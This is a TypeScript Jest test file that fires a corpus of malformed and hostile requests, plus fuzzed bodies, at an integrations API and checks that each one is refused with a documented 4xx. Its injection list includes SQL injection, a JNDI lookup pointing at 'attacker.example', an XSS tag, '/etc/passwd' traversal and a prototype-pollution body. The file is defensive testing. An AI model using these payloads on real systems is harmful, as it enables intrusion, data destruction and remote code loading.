import net from 'node:net';
import fc from 'fast-check';
import { ERROR_STATUS, type ErrorCode } from '../../lambdas/core/errors';
import type { LocalRuntime } from '../../local/runtime';
import { createIntegrationSchema, modifyIntegrationSchema } from '../../schemas/api/integrations';
import { modifyNodeSchema } from '../../schemas/api/nodes';
import { roleTestRequestSchema } from '../../schemas/api/role-test';
import { treePageSchema } from '../../schemas/sync';
import { documentedCodesOf } from '../fixtures/documented-errors';
import { localApi } from '../fixtures/local-api';
import { tableSnapshot } from '../fixtures/table-snapshot';
import { startTestRuntime } from '../fixtures/test-runtime';

/**
 * The bad input corpus: malformed requests to every route, then fuzzed bodies for each
 * body schema. Each answers a 4xx with a documented code, never a 500, and the table is
 * byte-for-byte what it was.
 */

let runtime: LocalRuntime;
const { call, createOrganizationIntegration } = localApi(() => runtime);
jest.setTimeout(120_000);

const OWNER = { tenantId: 'bad_input' };
let integrationId: string;
let ouId: string;
let accountId: string;

beforeAll(async () => {
  runtime = await startTestRuntime();
  const integration = await createOrganizationIntegration(OWNER, { handle: 'target' });
  integrationId = integration.id;
  await runtime.settled();
  const tree = treePageSchema.parse(
    (await call(OWNER, 'GET', `/v1/integrations/${integrationId}/tree?limit=100`)).body,
  );
  ouId = tree.items.find((node) => node.type === 'folder')?.id ?? '';
  accountId = tree.items.find((node) => node.type === 'connection')?.id ?? '';
}, 180_000);

afterAll(async () => {
  await runtime?.stop();
}, 120_000);

interface BadRequest {
  readonly method: string;
  /** Relative to the API; `{id}`, `{ouId}` and `{accountId}` name real resources of the tenant. */
  readonly path: string;
  /** Sent as is; a string is not JSON-encoded again. */
  readonly body?: unknown;
  readonly headers?: Record<string, string>;
}

const INTEGRATION = '/v1/integrations/{id}';
/** Shaped as our cursors are, with a sort key over DynamoDB's 1,024 bytes. */
const LONG_KEY_CURSOR = Buffer.from(JSON.stringify({ sk: `INTEGRATION#${'x'.repeat(1100)}` })).toString(
  'base64url',
);
const FOLDER = `${INTEGRATION}/folders/{ouId}`;
const CONNECTION = `${INTEGRATION}/connections/{accountId}`;
const VALID_CREATE = {
  kind: 'organization',
  // No such role is deployed: even a body that passed validation would stop at the role test.
  roleArn: 'arn:aws:iam::210000001013:role/NeverDeployed',
  handle: 'fresh',
  scope: { level: 'tenant' },
  regions: ['us-east-1'],
};
const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
const deepArray = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const INJECTIONS = [
  "x'; DROP TABLE integrations; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup injection, on purpose
  '${jndi:ldap://attacker.example/a}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  'attribute_exists(pk) OR begins_with(sk, :p)',
  'TENANT#someone_else',
  'a\u0000b',
];
/** Letters that look like the Latin ones: Cyrillic а and е, a Greek ο, fullwidth digits. */
const LOOK_ALIKES = {
  arn: 'arn:\u0430ws:iam::210000001013:role/NeverDeployed',
  account: '\uff12\uff11\uff10000001013',
  handle: 't\u0430rget',
  ou: 'ou-k3v9-\u0435ngineer',
};

const CORPUS: ReadonlyArray<readonly [string, BadRequest]> = [
  // Bodies that are not JSON objects.
  ['create: invalid JSON', { method: 'POST', path: '/v1/integrations', body: '{"kind":' }],
  ['create: a JSON array', { method: 'POST', path: '/v1/integrations', body: '[]' }],
  ['create: JSON null', { method: 'POST', path: '/v1/integrations', body: 'null' }],
  ['create: a JSON string', { method: 'POST', path: '/v1/integrations', body: '"organization"' }],
  ['create: no body', { method: 'POST', path: '/v1/integrations' }],
  [
    'create: text/plain',
    {
      method: 'POST',
      path: '/v1/integrations',
      body: JSON.stringify(VALID_CREATE),
      headers: { 'content-type': 'text/plain' },
    },
  ],
  [
    'create: oversized',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, handle: 'x'.repeat(70_000) } },
  ],
  ['create: 10,000 nested objects', { method: 'POST', path: '/v1/integrations', body: nested(10_000) }],
  ['create: 20,000 nested arrays', { method: 'POST', path: '/v1/integrations', body: deepArray(20_000) }],
  [
    'create: nested options',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, options: JSON.parse(nested(40)) } },
  ],
  [
    'create: a prototype key',
    {
      method: 'POST',
      path: '/v1/integrations',
      body: `{"__proto__":{"admin":true},${JSON.stringify(VALID_CREATE).slice(1)}`,
    },
  ],
  // Fields.
  [
    'create: no kind',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, kind: undefined } },
  ],
  [
    'create: an unknown kind',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, kind: 'galaxy' } },
  ],
  [
    'create: a tenant id in the body',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, tenantId: 'someone_else' } },
  ],
  [
    'create: an External ID in the body',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, externalId: 'mine' } },
  ],
  [
    'create: a look-alike ARN',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, roleArn: LOOK_ALIKES.arn } },
  ],
  [
    'create: a user ARN',
    {
      method: 'POST',
      path: '/v1/integrations',
      body: { ...VALID_CREATE, roleArn: 'arn:aws:iam::210000001013:user/alice' },
    },
  ],
  [
    'create: a role ARN with a wildcard',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, roleArn: 'arn:aws:iam::*:role/x' } },
  ],
  [
    'create: an unknown partition',
    {
      method: 'POST',
      path: '/v1/integrations',
      body: { ...VALID_CREATE, roleArn: 'arn:aws-mars:iam::210000001013:role/x' },
    },
  ],
  [
    'create: a look-alike handle',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, handle: LOOK_ALIKES.handle } },
  ],
  [
    'create: an empty region list',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, regions: [] } },
  ],
  [
    'create: a repeated region',
    {
      method: 'POST',
      path: '/v1/integrations',
      body: { ...VALID_CREATE, regions: ['us-east-1', 'us-east-1'] },
    },
  ],
  [
    'create: an org scope without an org',
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, scope: { level: 'org' } } },
  ],
  [
    'create: a look-alike OU filter',
    {
      method: 'POST',
      path: '/v1/integrations',
      body: { ...VALID_CREATE, filters: { organizationalUnits: { include: [LOOK_ALIKES.ou] } } },
    },
  ],
  [
    'create: 33 options',
    {
      method: 'POST',
      path: '/v1/integrations',
      body: {
        ...VALID_CREATE,
        options: Object.fromEntries(Array.from({ length: 33 }, (_, i) => [`o${i}`, i])),
      },
    },
  ],
  ...INJECTIONS.map((text): readonly [string, BadRequest] => [
    `create: the handle ${JSON.stringify(text)}`,
    { method: 'POST', path: '/v1/integrations', body: { ...VALID_CREATE, handle: text } },
  ]),
  [
    'test-connection: an account ARN with fullwidth digits',
    {
      method: 'POST',
      path: '/v1/aws/test-connection',
      body: { kind: 'account', roleArn: `arn:aws:iam::${LOOK_ALIKES.account}:role/x` },
    },
  ],
  [
    'test-connection: no role',
    { method: 'POST', path: '/v1/aws/test-connection', body: { kind: 'organization' } },
  ],
  [
    'test-connection: an injection as the role name',
    {
      method: 'POST',
      path: '/v1/aws/test-connection',
      body: { kind: 'organization', roleArn: "arn:aws:iam::210000001013:role/x' OR '1'='1" },
    },
  ],
  // PATCH: bodies and If-Match.
  ['patch integration: no If-Match', { method: 'PATCH', path: INTEGRATION, body: { handle: 'renamed' } }],
  [
    'patch integration: a malformed If-Match',
    { method: 'PATCH', path: INTEGRATION, body: { handle: 'renamed' }, headers: { 'if-match': 'yesterday' } },
  ],
  [
    'patch integration: a stale If-Match',
    { method: 'PATCH', path: INTEGRATION, body: { handle: 'renamed' }, headers: { 'if-match': '"999"' } },
  ],
  [
    'patch integration: a wildcard If-Match',
    { method: 'PATCH', path: INTEGRATION, body: { handle: 'renamed' }, headers: { 'if-match': '*' } },
  ],
  [
    'patch integration: the role ARN',
    {
      method: 'PATCH',
      path: INTEGRATION,
      body: { roleArn: 'arn:aws:iam::210000001013:role/y' },
      headers: { 'if-match': '"1"' },
    },
  ],
  [
    'patch integration: the kind',
    { method: 'PATCH', path: INTEGRATION, body: { kind: 'account' }, headers: { 'if-match': '"1"' } },
  ],
  [
    'patch integration: the status',
    { method: 'PATCH', path: INTEGRATION, body: { status: 'connected' }, headers: { 'if-match': '"1"' } },
  ],
  [
    'patch integration: an empty object',
    { method: 'PATCH', path: INTEGRATION, body: {}, headers: { 'if-match': '"1"' } },
  ],
  ['patch folder: no field', { method: 'PATCH', path: FOLDER, body: {}, headers: { 'if-match': '"1"' } }],
  [
    'patch folder: a look-alike handle',
    { method: 'PATCH', path: FOLDER, body: { handle: LOOK_ALIKES.handle }, headers: { 'if-match': '"1"' } },
  ],
  [
    'patch folder: a parent',
    { method: 'PATCH', path: FOLDER, body: { parentId: 'r-k3v9' }, headers: { 'if-match': '"1"' } },
  ],
  [
    'patch connection: share with no workspace',
    {
      method: 'PATCH',
      path: CONNECTION,
      body: { permissions: { share: 'selected', workspaceIds: [] } },
      headers: { 'if-match': '"1"' },
    },
  ],
  [
    'patch connection: an injection as a workspace',
    {
      method: 'PATCH',
      path: CONNECTION,
      body: { permissions: { share: 'selected', workspaceIds: ["ws#1' OR 1=1"] } },
      headers: { 'if-match': '"1"' },
    },
  ],
  [
    'patch connection: a string as regions',
    { method: 'PATCH', path: CONNECTION, body: { regions: 'us-east-1' }, headers: { 'if-match': '"1"' } },
  ],
  // Path ids.
  ['an id that is not a UUID', { method: 'GET', path: '/v1/integrations/not-a-uuid' }],
  ['an id of nothing', { method: 'GET', path: '/v1/integrations/00000000-0000-4000-8000-000000000000' }],
  ['an id with an encoded slash', { method: 'GET', path: '/v1/integrations/%2F..%2Fadmin' }],
  ['an id with a key separator', { method: 'GET', path: '/v1/integrations/TENANT%23x' }],
  ['an OU id that is an account', { method: 'GET', path: `${INTEGRATION}/folders/{accountId}` }],
  [
    'a look-alike OU id',
    { method: 'GET', path: `${INTEGRATION}/folders/${encodeURIComponent(LOOK_ALIKES.ou)}` },
  ],
  ['an account id of 11 digits', { method: 'GET', path: `${INTEGRATION}/connections/21000000101` }],
  [
    'an account id in fullwidth digits',
    { method: 'GET', path: `${INTEGRATION}/connections/${encodeURIComponent(LOOK_ALIKES.account)}` },
  ],
  ['an account not in the mirror', { method: 'GET', path: `${INTEGRATION}/connections/999999999999` }],
  ['an unknown template', { method: 'GET', path: '/v1/aws/templates/everything' }],
  ['a template name with a path', { method: 'GET', path: '/v1/aws/templates/..%2F..%2Fpackage.json' }],
  ['a workspace id with a key separator', { method: 'GET', path: '/v1/workspaces/ws%23%2A/connections' }],
  ['an unknown route', { method: 'GET', path: '/v1/integrations/{id}/secrets' }],
  ['a method the route lacks', { method: 'PUT', path: INTEGRATION, body: {} }],
  // Query strings.
  ['a limit of 0', { method: 'GET', path: `${INTEGRATION}/tree?limit=0` }],
  ['a negative limit', { method: 'GET', path: `${INTEGRATION}/runs?limit=-1` }],
  ['a limit that is not a number', { method: 'GET', path: '/v1/integrations?limit=all' }],
  ['a huge limit', { method: 'GET', path: '/v1/integrations?limit=1e9' }],
  ['a forged cursor', { method: 'GET', path: `${INTEGRATION}/tree?cursor=eyJwayI6IlRFTkFOVCNvdGhlciJ9` }],
  ['a cursor that is not base64', { method: 'GET', path: `${INTEGRATION}/tree?cursor=%25%25%25` }],
  ['an oversized cursor', { method: 'GET', path: `${INTEGRATION}/runs?cursor=${'a'.repeat(3000)}` }],
  [
    'a cursor whose key is longer than DynamoDB takes',
    { method: 'GET', path: `/v1/integrations?cursor=${LONG_KEY_CURSOR}` },
  ],
  ['an unknown query parameter', { method: 'GET', path: `${INTEGRATION}/tree?tenantId=someone_else` }],
  ['confirmDeletions=yes', { method: 'POST', path: `${INTEGRATION}/sync?confirmDeletions=yes` }],
  [
    'a template parameter it refuses',
    { method: 'GET', path: '/v1/aws/templates/management-account-role?permissionLevel=Admin' },
  ],
  [
    'a role name with a slash',
    { method: 'GET', path: '/v1/aws/templates/management-account-role?roleName=a%2Fb' },
  ],
  ['DELETE with the wrong handle typed', { method: 'DELETE', path: `${INTEGRATION}?confirm=other` }],
  ['DELETE without the handle typed', { method: 'DELETE', path: INTEGRATION }],
  // Headers.
  [
    'Basic authorization',
    { method: 'GET', path: '/v1/integrations', headers: { authorization: 'Basic YTpi' } },
  ],
  [
    'two bearer tokens',
    { method: 'GET', path: '/v1/integrations', headers: { authorization: 'Bearer a Bearer b' } },
  ],
  [
    'a token that is not a JWT',
    { method: 'GET', path: '/v1/integrations', headers: { authorization: 'Bearer not.a.jwt' } },
  ],
  [
    'an oversized token',
    { method: 'GET', path: '/v1/integrations', headers: { authorization: `Bearer ${'a'.repeat(8000)}` } },
  ],
];

/** The path with the tenant's real ids in place. */
function resolved(pathname: string): string {
  return pathname.replace('{id}', integrationId).replace('{ouId}', ouId).replace('{accountId}', accountId);
}

/** What each case of the corpus answers, exactly: VALIDATION_FAILED unless named here. */
const OTHER_CODES: Readonly<Record<string, ErrorCode>> = {
  'create: a look-alike ARN': 'INVALID_ROLE_ARN',
  'create: a user ARN': 'INVALID_ROLE_ARN',
  'create: a role ARN with a wildcard': 'INVALID_ROLE_ARN',
  'create: an unknown partition': 'UNSUPPORTED_PARTITION',
  'test-connection: an account ARN with fullwidth digits': 'INVALID_ROLE_ARN',
  'test-connection: an injection as the role name': 'INVALID_ROLE_ARN',
  'patch integration: a stale If-Match': 'VERSION_CONFLICT',
  'patch integration: the role ARN': 'ROLE_NOT_ASSUMABLE',
  'an id of nothing': 'NOT_FOUND',
  'an account not in the mirror': 'NOT_FOUND',
  'an unknown route': 'NOT_FOUND',
  'a method the route lacks': 'NOT_FOUND',
  'DELETE with the wrong handle typed': 'CONFIRMATION_REQUIRED',
  'DELETE without the handle typed': 'CONFIRMATION_REQUIRED',
  'Basic authorization': 'UNAUTHENTICATED',
  'two bearer tokens': 'UNAUTHENTICATED',
  'a token that is not a JWT': 'UNAUTHENTICATED',
  'an oversized token': 'UNAUTHENTICATED',
};

async function send(request: BadRequest) {
  const { body } = request;
  const token = await runtime.issuer.sign({ tenantId: OWNER.tenantId, roles: ['tenant_owner'] });
  const response = await fetch(`${runtime.url}${resolved(request.path)}`, {
    method: request.method,
    headers: {
      authorization: `Bearer ${token}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...request.headers,
    },
    body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
  });
  const text = await response.text();
  let code: unknown;
  try {
    code = (JSON.parse(text) as { error?: { code?: unknown } }).error?.code;
  } catch {
    code = undefined;
  }
  return { status: response.status, code, text };
}

/** A 4xx whose code is documented, for its route too, and answers with that very status. */
function expectDocumentedRefusal(
  answer: { status: number; code: unknown; text: string },
  request: BadRequest,
): void {
  expect(answer.status).toBeGreaterThanOrEqual(400);
  expect(answer.status).toBeLessThan(500);
  expect(Object.keys(ERROR_STATUS)).toContain(answer.code);
  expect(ERROR_STATUS[answer.code as ErrorCode]).toBe(answer.status);
  expect(documentedCodesOf(request.method, request.path)).toContain(answer.code);
}

describe('the bad input corpus', () => {
  it('holds at least 60 requests, across every kind of input', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(60);
    expect(new Set(CORPUS.map(([name]) => name)).size).toBe(CORPUS.length);
  });

  it('names an expected code only for cases of the corpus', () => {
    const names = new Set(CORPUS.map(([name]) => name));
    expect(Object.keys(OTHER_CODES).filter((name) => !names.has(name))).toEqual([]);
  });

  it.each(CORPUS)('%s: its exact documented 4xx, nothing written', async (name, request) => {
    const before = await tableSnapshot(runtime);

    const answer = await send(request);

    expectDocumentedRefusal(answer, request);
    expect(answer.code).toBe(OTHER_CODES[name] ?? 'VALIDATION_FAILED');
    expect(await tableSnapshot(runtime)).toBe(before);
  });
});

describe('fuzzed bodies', () => {
  /** Any JSON: objects with the schema's own keys are likelier, so the checks below the top run. */
  const anyJson = fc.jsonValue({ maxDepth: 4 });
  const keyed = (keys: readonly string[]) =>
    fc.dictionary(fc.constantFrom(...keys, '__proto__', 'tenantId', 'externalId'), anyJson, { maxKeys: 6 });

  const bodies = [
    {
      route: 'POST /v1/integrations',
      request: (body: unknown): BadRequest => ({ method: 'POST', path: '/v1/integrations', body }),
      schema: createIntegrationSchema,
      keys: ['kind', 'roleArn', 'handle', 'scope', 'regions', 'options', 'permissions', 'filters'],
    },
    {
      route: 'POST /v1/aws/test-connection',
      request: (body: unknown): BadRequest => ({ method: 'POST', path: '/v1/aws/test-connection', body }),
      schema: roleTestRequestSchema,
      keys: ['kind', 'roleArn', 'readOnlyRoleArn', 'memberRoleName'],
    },
    {
      route: 'PATCH /v1/integrations/{id}',
      request: (body: unknown): BadRequest => ({
        method: 'PATCH',
        path: INTEGRATION,
        body,
        headers: { 'if-match': '"1"' },
      }),
      schema: modifyIntegrationSchema,
      keys: ['handle', 'handlePrefix', 'regions', 'options', 'permissions', 'memberRoleName', 'filters'],
    },
    ...[FOLDER, CONNECTION].map((path) => ({
      route: `PATCH ${path}`,
      request: (body: unknown): BadRequest => ({
        method: 'PATCH',
        path,
        body,
        headers: { 'if-match': '"1"' },
      }),
      schema: modifyNodeSchema,
      keys: ['handle', 'regions', 'options', 'permissions'],
    })),
  ];

  it.each(bodies)(
    '$route: every body its schema refuses answers 400, and nothing is written',
    async (case_) => {
      const before = await tableSnapshot(runtime);
      const invalid = fc
        .oneof(anyJson, keyed(case_.keys))
        .filter((body) => !case_.schema.safeParse(body).success);

      await fc.assert(
        fc.asyncProperty(invalid, async (body) => {
          const request = case_.request(body);
          const answer = await send(request);
          expectDocumentedRefusal(answer, request);
          expect(answer.status).toBe(400);
        }),
        { numRuns: 100 },
      );

      expect(await tableSnapshot(runtime)).toBe(before);
    },
  );
});

describe('requests the HTTP parser refuses', () => {
  /** Sends bytes as they are, past fetch's own checks, and reads the answer whole. */
  async function raw(request: string): Promise<{ status: number; body: unknown }> {
    const { port } = new URL(runtime.url);
    const socket = net.connect(Number(port), '127.0.0.1');
    socket.end(request);
    const chunks: Buffer[] = [];
    for await (const chunk of socket) chunks.push(chunk as Buffer);
    const [head = '', body = ''] = Buffer.concat(chunks).toString('utf8').split('\r\n\r\n');
    return { status: Number(head.split(' ')[1]), body: JSON.parse(body) };
  }

  it('answers a token pasted with npm’s banner line with the 401 envelope', async () => {
    const pasted = '\n> aws-org-connections@0.1.0 token\n> tsx bin/token.ts demo\n\neyJhbGciOi';
    const answer = await raw(
      `GET /v1/integrations HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${pasted}\r\n\r\n`,
    );

    expect(answer).toEqual({
      status: 401,
      body: {
        error: {
          code: 'UNAUTHENTICATED',
          message: expect.stringContaining('on one line'),
          requestId: expect.any(String),
        },
      },
    });
  });

  it('answers other unparseable requests with the 400 envelope', async () => {
    const answer = await raw('GET /v1/integrations HTTP/1.1\r\nHost 127.0.0.1\r\n\r\n');

    expect(answer.status).toBe(400);
    expect(answer.body).toMatchObject({ error: { code: 'VALIDATION_FAILED' } });
  });
});
